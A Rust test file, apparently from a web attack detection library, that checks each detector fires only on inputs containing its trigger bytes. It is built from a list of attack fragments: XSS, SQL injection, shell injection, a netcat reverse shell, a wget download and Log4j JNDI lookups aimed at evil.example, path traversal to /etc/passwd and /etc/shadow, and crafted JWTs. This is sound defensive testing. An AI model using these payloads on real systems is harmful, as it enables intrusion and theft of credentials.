//! Each detector's trigger bytes (`Detector::triggers`) are exact: a
//! value holding none of them never yields a hit. Values are built, from
//! a seed, out of attack fragments of every family and random bytes; each
//! is judged with the detector's trigger bytes stripped (must find
//! nothing) and, as a control that the fragments are attacks, kept (every
//! detector with trigger bytes must find something).

use super::test_support::{all, hit};
use super::{Detector, Triggers};
use crate::test_support::xorshift;

/// Attack fragments of every family (each, whole, is a hit for at least
/// one detector) and words and bytes they are built from.
const FRAGMENTS: &[&str] = &[
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "javascript:alert(document.domain)",
    "<a href=\"java\tscript:x\">",
    "<svg/onload=prompt`1`>",
    "[1].find(alert)",
    "top[\"al\"+\"ert\"](1)",
    "location='//evil.example/'",
    "<a href=\"http://evil.example/\">log in</a>",
    "background:url(//evil.example/p.png)",
    "' or 1=1 --",
    "1 union select password from users",
    "admin'--",
    "1) or sleep(5)#",
    "\" or \"\"=\"",
    "It\\'s me' or 1=1--",
    ";cat /etc/passwd",
    "| id",
    "`id`",
    "$(whoami)",
    "${IFS}cat${IFS}/etc/passwd",
    "&& ping -c 1 10.0.0.1",
    "\nuname -a\n",
    "\\nid\\n",
    "x\\u000auname -a",
    "nc -e /bin/sh 10.0.0.1 4444",
    "wget http://evil.example/x.sh",
    "nc 10.0.0.1 4444",
    "curl --output=x evil",
    "${jndi:ldap://evil.example/a}",
    "${${::-j}${::-n}di:rmi://x/a}",
    "../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "0x2e0x2e0x2fetc0x2fpasswd",
    "%%32%%65%%32%%65%%32%%66etc",
    "\u{ff0e}\u{ff0e}\u{ff0f}etc\u{ff0f}passwd",
    "/etc/shadow",
    "C:\\boot.ini",
    "\r\nSet-Cookie: x=1",
    "text/html; charset=utf-7",
    "x-evil, gzip",
    "bytes=0-",
    "HTTP/0.9",
    "PROPFIND",
    // JSON Web Tokens (`detect::jose`): SQL, markup, a command, a path and
    // a Log4j lookup in their claims.
    "eyJhbGciOiJub25lIn0.eyJzIjoiJyBvciAxPTEgLS0ifQ.",
    "eyJhbGciOiJub25lIn0.eyJuIjoiPHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0PiJ9.",
    "eyJhbGciOiJub25lIn0.eyJrIjoiO2NhdCAvZXRjL3Bhc3N3ZCJ9.",
    "eyJhbGciOiJub25lIn0.eyJrIjoiLi4vLi4vZXRjL3Bhc3N3ZCJ9.",
    "eyJhbGciOiJub25lIn0.eyJ1IjoiJHtqbmRpOmxkYXA6Ly9ldmlsLmV4YW1wbGUvYX0ifQ.",
    "utf-7",
    "etc",
    "passwd",
    "alert",
    "onerror",
    "script",
    "union",
    "select",
    "from",
    "where",
    "ls",
    "id",
    "cat",
    "jndi",
    "ldap",
    " ",
    "  ",
    "1",
    "0",
];

/// A value of one to five fragments and random bytes (every byte value).
fn value(x: &mut u64) -> Vec<u8> {
    let r = xorshift(x);
    let mut v = Vec::new();
    for k in 0..1 + r % 5 {
        let r = xorshift(x);
        if (r >> 8).is_multiple_of(4) {
            v.extend((0..1 + r % 4).map(|i| (r >> (16 + 8 * i)) as u8));
        } else {
            let f = FRAGMENTS[(r >> 16) as usize % FRAGMENTS.len()];
            v.extend_from_slice(f.as_bytes());
        }
        if (r >> 40).is_multiple_of(3) && k > 0 {
            v.push(b' ');
        }
    }
    v
}

#[test]
fn a_value_without_trigger_bytes_yields_no_hit() {
    let dets: Vec<(Detector, Triggers)> = all()
        .into_iter()
        .filter_map(|d| Some((d, d.triggers()?)))
        .collect();
    assert!(dets.len() >= 12, "detectors with trigger bytes: {dets:?}");
    let mut found = vec![0usize; dets.len()];
    let mut x: u64 = 0x2545_f491_4f6c_dd1d;
    for _ in 0..30_000 {
        let v = value(&mut x);
        for (k, (d, t)) in dets.iter().enumerate() {
            if hit(*d, &v) {
                found[k] += 1;
            }
            let stripped: Vec<u8> = v.iter().copied().filter(|&b| !t.contains(b)).collect();
            assert!(
                !hit(*d, &stripped),
                "{d:?} fired on {:?}, which holds none of its trigger bytes {:?}",
                String::from_utf8_lossy(&stripped),
                String::from_utf8_lossy(t.bytes)
            );
        }
    }
    // The control: the same values, trigger bytes kept, are attacks.
    for ((d, _), n) in dets.iter().zip(&found) {
        assert!(*n > 0, "{d:?} found nothing in 30,000 values: a weak test");
    }
}

#[test]
fn trigger_sets_agree_with_their_bits() {
    for d in all() {
        let Some(t) = d.triggers() else {
            continue;
        };
        let bits = t.bits();
        for b in 0..=255u8 {
            let bit = bits[usize::from(b >> 6)] >> (b & 63) & 1 == 1;
            assert_eq!(bit, t.contains(b), "{d:?} byte {b:#04x}");
        }
    }
}
